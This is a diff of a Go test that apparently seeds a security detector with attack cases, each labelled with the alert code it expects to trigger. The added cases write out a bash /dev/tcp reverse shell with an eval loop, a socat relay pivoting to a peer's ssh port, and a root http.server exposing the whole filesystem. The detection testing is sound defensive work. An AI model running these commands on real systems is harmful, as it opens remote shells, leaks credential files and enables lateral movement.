@@ -175,6 +175,23 @@ func startAttacks(t *testing.T, ns string) []*corpusAttack {
 			script: "D=" + userRoot(t, 6380) + " exec setpriv --reuid=nobody --regid=nogroup --clear-groups unshare -r -m sh -c '" + userPivotMount + userLibs + userPivotEnter + "'",
 			listen: 6380, caught: []string{CodeUnownedExe}})
 	}
+	// A real daemon's binary copied under another name: no claim to
+	// make, so it is judged as the unknown listener it is.
+	if rs, err := exec.LookPath("redis-server"); err == nil {
+		helper := copyTo(rs, filepath.Join(kit, "bin", "kit-helper"))
+		attacks = append(attacks, &corpusAttack{name: "redis-server's binary copied as kit-helper", script: "exec " + helper + " --port 8083 --bind 0.0.0.0 --save '' --protected-mode no",
+			listen: 8083, caught: []string{CodeUnknownListener}})
+	}
+	attacks = append(attacks,
+		// A relay into the next network is a pivot, not a shell.
+		&corpusAttack{name: "socat relay to the peer's ssh", script: "exec socat TCP-LISTEN:8082,fork,reuseaddr TCP:" + corpusPeer + ":22", listen: 8082, caught: []string{CodePivot}},
+		// Root's working directory, served to anyone: /etc/shadow with it.
+		&corpusAttack{name: "python3 -m http.server as root in /", script: "cd / && exec python3 -m http.server 8088", listen: 8088, caught: []string{CodeFileServer}},
+		// A shell reading commands from a descriptor it opened itself, not
+		// from its standard input.
+		&corpusAttack{name: "bash reading commands from fd 3 (/dev/tcp to 443)", script: "exec bash -c 'exec 3<>/dev/tcp/" + corpusPeer + "/443; while read -r l <&3; do eval \"$l\" >&3 2>&1; done'",
+			rport: 443, caught: []string{CodeShellConnection, CodeReverseShell}},
+	)
 	var run []*corpusAttack
 	for _, a := range attacks {
 		if strings.Contains(a.script, "socat") && socat == "" {
